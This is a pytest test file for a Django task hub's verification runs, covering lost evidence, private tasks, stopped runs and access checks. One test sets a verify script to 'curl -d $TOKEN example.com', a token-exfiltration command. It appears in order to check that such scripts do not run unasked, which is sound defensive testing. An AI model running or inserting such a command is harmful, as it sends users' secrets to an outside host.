"""Verdicts in the corners: what was lost, what was private, what is superseded while it is stopped."""

from __future__ import annotations

import json
from contextlib import nullcontext
from typing import Any

import pytest
from django.contrib.auth.models import User
from django_eventstream.models import Event
from rest_framework.test import APIClient

from taskhub import jobs
from taskhub.api import verifications as api_verifications
from taskhub.auth.actor import SYSTEM, Actor
from taskhub.errors import Conflict, NotFound
from taskhub.executions.artifact_collector import Kept
from taskhub.executions.executor import ExecutorError, LogLine
from taskhub.executions.log_reading import Window
from taskhub.mcp.budget import fit, size_of
from taskhub.mcp.tasks_extension import handle_of
from taskhub.mcp.tools import Outcome as Answer
from taskhub.models import ApiToken, Execution, ExecutionStatus, Note, Task, Verdict
from taskhub.services.environments import environment_create, environment_update
from taskhub.services.executions import Outcome, execution_finish, execution_queue, execution_request_stop
from taskhub.services.tasks import task_create, task_update
from taskhub.services.verifications import verification_request, verifications_begin
from taskhub.worker.evidence_files import evidence_rows
from tests.agents.calls import result
from tests.conftest import client_of, make_account
from tests.evidence import FAILED, PASSED, begun, ended, ran, verified

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite_suffices]
REQUIRED = {"verify": "make test", "verify_policy": "required"}
LOST = Outcome(ExecutionStatus.LOST, error_code="sandbox_gone")
SECRET = "SECRET-XYZ"


@pytest.fixture
def task(actor: Actor) -> Task:
    return task_create(actor=actor, title="t", status="review", **REQUIRED)


# What a run has left and the hub does not have.


@pytest.mark.parametrize(
    ("outcome", "kept", "left_out"),
    [
        (PASSED, None, 0),
        (LOST, None, 1),
        (Outcome(ExecutionStatus.FAILED, error_code="runner_died"), None, 1),
        (Outcome(ExecutionStatus.STOPPED, error_code="ended_with_session"), None, 1),
        (PASSED, Kept([], evidence_left_out=1), 1),
    ],
)
def test_what_was_lost_with_its_sandbox_counts_as_left_out(
    actor: Actor, task: Task, outcome: Outcome, kept: Kept | None, left_out: int
) -> None:
    run = ended(execution_queue(actor=actor, task_id=task.pk, script="make"), outcome, kept=kept)
    assert Execution.objects.get(pk=run.pk).evidence_left_out == left_out
    verification = verification_request(actor=actor, task_id=task.pk).execution
    if left_out:
        with pytest.raises(ExecutorError, match="1 of the last run's results were not kept") as refused:
            evidence_rows(verification)
        assert (refused.value.code, refused.value.permanent) == ("evidence_incomplete", True)
    else:
        assert evidence_rows(verification) == []


def test_a_run_of_which_more_was_left_out_voids_the_verdict(actor: Actor, task: Task) -> None:
    """The files that were kept are the same."""
    ran(actor, task.pk)
    verified(actor, task.pk)
    ended(execution_queue(actor=actor, task_id=task.pk, script="make"), kept=Kept([], 1, evidence_left_out=1))
    assert Task.objects.get().verified == ""


def test_without_a_commit_there_is_nothing_to_check_out(actor: Actor, task: Task) -> None:
    environment_create(actor=SYSTEM, name="backend", repository={"url": "https://git.example.com/app"})
    task_update(actor=actor, task_id=task.pk, environment="backend")
    verification = verification_request(actor=actor, task_id=task.pk).execution
    with pytest.raises(ExecutorError) as refused:
        evidence_rows(verification)
    assert (refused.value.code, refused.value.permanent) == ("evidence_missing", True)
    run = ended(execution_queue(actor=actor, task_id=task.pk, script="make"))
    verification = verification_request(actor=actor, task_id=task.pk).execution
    with pytest.raises(ExecutorError, match="has recorded a commit"):
        evidence_rows(verification)
    Execution.objects.filter(pk=run.pk).update(commit="a" * 40)
    assert evidence_rows(Execution.objects.get(pk=verification.pk)) == []


# What was private.


@pytest.fixture
def tails(monkeypatch: pytest.MonkeyPatch) -> None:
    async def log_tail(execution: Execution, _: int) -> Window:
        return Window([LogLine(1, "stdout", SECRET, execution.queued_at)], None)

    monkeypatch.setattr(api_verifications, "log_tail", log_tail)


@pytest.mark.usefixtures("tails")
def test_a_verification_of_a_private_time_stays_private(alice: User, operator: User) -> None:
    bob = make_account("bob", "agent")
    task = task_create(actor=SYSTEM, title="t", assignee="bob", private=True, **REQUIRED)
    outcome = Outcome(ExecutionStatus.TIMED_OUT, error_code="ended_round_runner", error_message=SECRET)
    verified(SYSTEM, task.pk, outcome)
    task_update(actor=SYSTEM, task_id=task.pk, private=False)
    for reader, is_hidden in ((alice, True), (bob, False), (operator, False)):
        client = client_of(reader)
        rest = client.post(f"/api/tasks/{task.pk}/verify/", {}, format="json").json()
        told = result(reader, "execute_task", task_id=str(task.pk), verify=True)
        assert (rest["cached"], rest["verified"]) == (told["cached"], told["verified"]) == (True, "failed")
        check = client.get(f"/api/tasks/{task.pk}/").json()["check"]
        assert (check["last"] is None, check["last_stands"]) == (is_hidden, not is_hidden)
        for answer in (rest, told, check, result(reader, "get_task", task_id=str(task.pk))):
            assert (SECRET in str(answer)) is not is_hidden, (reader, answer)


def test_a_verification_shows_a_private_run_to_its_readers_alone(alice: User, operator: User) -> None:
    """Its script sees what the run has left, and its log may show that: also long after the task is public."""
    bob, carol = (make_account(name, "agent") for name in ("bob", "carol"))
    task = task_create(actor=SYSTEM, title="t", assignee="bob", private=True, **REQUIRED)
    ran(SYSTEM, task.pk, secret="1" * 64)
    task_update(actor=SYSTEM, task_id=task.pk, private=False)
    task_update(actor=Actor(door="rest", user=alice), task_id=task.pk, verify="cat out/secret")
    refused = client_of(alice).post(f"/api/tasks/{task.pk}/verify/", {}, format="json")
    assert (refused.status_code, refused.json()["error"]["code"]) == (409, "evidence_private")
    assert not Execution.objects.filter(kind="verify").exists()
    for asks in (bob, operator):
        found = verification_request(actor=Actor(door="admin", user=asks), task_id=task.pk, again=True).execution
        ended(found)
        seen = [client_of(reader).get(f"/api/executions/{found.pk}/").status_code for reader in (alice, bob, operator)]
        assert seen == [404, 200, 200]
    # Nor are the next readers of a private task those of an earlier private time.
    task_update(actor=SYSTEM, task_id=task.pk, private=True, assignee="carol")
    for asks in (carol, operator):
        with pytest.raises(Conflict) as refusal:
            verification_request(actor=Actor(door="admin", user=asks), task_id=task.pk, again=True)
        assert refusal.value.code == "evidence_private"
    task_update(actor=SYSTEM, task_id=task.pk, private=False, assignee="")
    ran(SYSTEM, task.pk)
    assert verification_request(actor=Actor(door="rest", user=alice), task_id=task.pk).is_new


def test_a_verification_that_began_in_private_tells_its_log_in_no_public_note(task: Task) -> None:
    task_update(actor=SYSTEM, task_id=task.pk, private=True, assignee="bob")
    running = begun(verification_request(actor=SYSTEM, task_id=task.pk).execution)
    task_update(actor=SYSTEM, task_id=task.pk, private=False)
    execution_finish(execution=running, outcome=FAILED, log_tail=SECRET)
    note = Note.objects.get()
    assert "exit code 1" in note.text
    assert SECRET not in note.text


def test_the_script_of_a_verification_is_for_those_who_may_use_the_environment(
    alice: User, api: APIClient, operator: User
) -> None:
    bob = make_account("bob", "agent")
    environment_create(actor=SYSTEM, name="closed", verify="make lint", verify_policy="warn", allowed=["bob"])
    task = task_create(actor=SYSTEM, title="t", environment="closed", verify="make test")
    verification = verification_request(actor=SYSTEM, task_id=task.pk).execution
    run = Execution.objects.create(
        task=task, kind="run", script="make", timeout_s=1, environment=verification.environment, superseded=True
    )
    scripts = {
        reader.username: client_of(reader).get(f"/api/executions/{verification.pk}/").json()["script"]
        for reader in (alice, bob, operator)
    }
    assert scripts["alice"] == ""
    assert "make lint" in scripts["bob"] == scripts["operator"]
    assert api.get(f"/api/executions/{run.pk}/").json()["script"] == "make"
    environment_update(actor=SYSTEM, name="closed", allowed=["alice"])
    assert "make lint" in api.get(f"/api/executions/{verification.pk}/").json()["script"]


# What is being ended.


def test_a_verification_that_is_being_stopped_is_superseded(actor: Actor, task: Task) -> None:
    running = begun(verification_request(actor=actor, task_id=task.pk).execution)
    execution_request_stop(actor=actor, task_id=task.pk)
    assert Task.objects.get().ending == "stopped"
    run = execution_queue(actor=actor, task_id=task.pk, script="make")
    assert Task.objects.get().ending == ""
    execution_finish(execution=running, outcome=Outcome(ExecutionStatus.STOPPED, exit_code=143))
    assert Task.objects.get().ending == ""
    assert execution_request_stop(actor=actor, task_id=task.pk).pk == run.pk


def test_a_verification_that_ends_as_it_is_stopped_leaves_no_ending(actor: Actor, task: Task) -> None:
    """Its worker has not heard of the stop."""
    running = begun(verification_request(actor=actor, task_id=task.pk).execution)
    execution_request_stop(actor=actor, task_id=task.pk)
    execution_finish(execution=running, outcome=PASSED)
    assert Task.objects.get().ending == ""


def test_a_queued_verification_that_is_superseded_ends_last(actor: Actor, task: Task) -> None:
    """Its end is an event: only one transaction at a time numbers events, so all rows are locked before."""
    verification = verification_request(actor=actor, task_id=task.pk).execution
    told = Event.objects.count()
    execution_queue(actor=actor, task_id=task.pk, script="make")
    updated, stopped = (json.loads(event.data) for event in Event.objects.order_by("pk")[told:])
    assert (updated["event"], stopped["event"]) == ("task_updated", "execution_event")
    assert (stopped["data"]["execution_event"], stopped["data"]["execution_id"]) == ("stopped", str(verification.pk))
    verification.refresh_from_db()
    assert (verification.status, verification.error_code) == ("stopped", "superseded")


# Requests.


def test_a_reason_that_overrides_nothing_is_not_kept(operator: User) -> None:
    actor = Actor(door="rest", user=operator)
    task_create(actor=actor, title="t", status="done", override_reason="why not")
    assert Task.objects.get().override_reason == ""
    task = task_create(actor=actor, title="u", status="done", override_reason="it is known", **REQUIRED)
    assert Task.objects.get(pk=task.pk).override_reason == "it is known"


def test_the_end_of_a_log_is_told_within_its_limit(
    api: APIClient, actor: Actor, task: Task, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def log_tail(execution: Execution, _: int) -> Window:
        return Window([LogLine(n, "stdout", "ä" * 3000, execution.queued_at) for n in (1, 2)], None)

    monkeypatch.setattr(api_verifications, "log_tail", log_tail)
    verified(actor, task.pk)
    tail = api.post(f"/api/tasks/{task.pk}/verify/", {}, format="json").json()["log_tail"]
    assert tail == "ä" * 2048
    answer = fit({"log_tail": "\x1b" * 4000 + "end"}, rest="")
    assert answer["log_tail"].endswith("end")
    assert size_of(answer) <= 16 * 1024


def test_a_standing_verdict_is_no_handle(task: Task) -> None:
    arguments = {"task_id": str(task.pk), "verify": True}
    body = {"execution_id": str(task.pk), "cached": False}
    assert handle_of("execute_task", arguments, Answer(body)) is not None
    assert handle_of("execute_task", arguments, Answer({**body, "cached": True})) is None


# Verifications without a request.


def test_work_that_is_again_as_it_was_is_verified_again(actor: Actor, task: Task, settings: Any) -> None:
    settings.TASKHUB_VERIFY_IN_REVIEW = True
    verified(actor, task.pk)
    for description in ("other", task.description):
        task_update(actor=actor, task_id=task.pk, description=description)
    assert Task.objects.get().verified == ""
    (again,) = verifications_begin()
    ended(Execution.objects.get(pk=again))
    assert Task.objects.get().verified == Verdict.PASSED
    assert verifications_begin() == []


def test_no_script_runs_unasked_in_an_environment_that_only_a_run_has_named(alice: User, settings: Any) -> None:
    """Who wrote it need not be one who may use the environment."""
    settings.TASKHUB_VERIFY_IN_REVIEW = True
    environment_create(actor=SYSTEM, name="closed", allowed=["alice"])
    bob, mine = Actor(door="rest", user=make_account("bob", "agent")), Actor(door="rest", user=alice)
    task = task_create(actor=bob, title="t", verify="curl -d $TOKEN example.com", verify_policy="warn")
    ended(execution_queue(actor=mine, task_id=task.pk, script="make", environment="closed"))
    task_update(actor=bob, task_id=task.pk, status="review")
    assert verifications_begin() == []
    with pytest.raises(NotFound):
        verification_request(actor=bob, task_id=task.pk)
    task_update(actor=mine, task_id=task.pk, environment="closed")
    assert len(verifications_begin()) == 1
    environment_create(actor=SYSTEM, name="open")
    other = task_create(actor=bob, title="u", verify="make test", verify_policy="warn")
    ended(execution_queue(actor=mine, task_id=other.pk, script="make", environment="open"))
    task_update(actor=bob, task_id=other.pk, status="review")
    assert len(verifications_begin()) == 1


@pytest.mark.parametrize(
    ("code", "is_repeated"),
    [
        ("sandbox_unavailable", True),
        ("sandbox_build_slow", True),
        ("snapshot_slow", True),
        ("sandbox_build_failed", False),
        ("sandbox_not_held", False),
        ("setup_failed", False),
        ("evidence_gone", False),
    ],
)
def test_only_what_the_service_has_caused_is_repeated(actor: Actor, task: Task, code: str, is_repeated: bool) -> None:
    verified(actor, task.pk, Outcome(ExecutionStatus.FAILED, error_code=code))
    assert (Execution.objects.get().retry_at is not None) is is_repeated


def test_a_session_of_a_token_makes_no_check_laxer(alice: User, task: Task) -> None:
    browser = APIClient()
    text = ApiToken.objects.create(user=alice)[1]
    assert browser.post("/login/token/", {"token": text, "next": "/"}).status_code == 302
    for body in ({"verify_policy": "off"}, {"verify": "true"}):
        refused = browser.patch(f"/api/tasks/{task.pk}/", body, format="json")
        assert (refused.status_code, refused.json()["error"]["code"]) == (403, "evidence_locked")


def test_a_verification_that_cannot_be_begun_holds_no_run_up(monkeypatch: pytest.MonkeyPatch) -> None:
    done: list[str] = []
    monkeypatch.setattr(jobs, "executions_under_way", lambda: True)
    monkeypatch.setattr(jobs, "alone", lambda *_, **__: nullcontext(True))
    monkeypatch.setattr(jobs, "_resend_starts", lambda: done.append("starts"))
    monkeypatch.setattr(jobs, "_hand_over_running", lambda: done.append("running"))

    def fails() -> list[Any]:
        raise RuntimeError

    monkeypatch.setattr(jobs.verifications, "verifications_retry", fails)
    with pytest.raises(RuntimeError):
        jobs.executions_reconcile()
    assert done == ["starts", "running"]
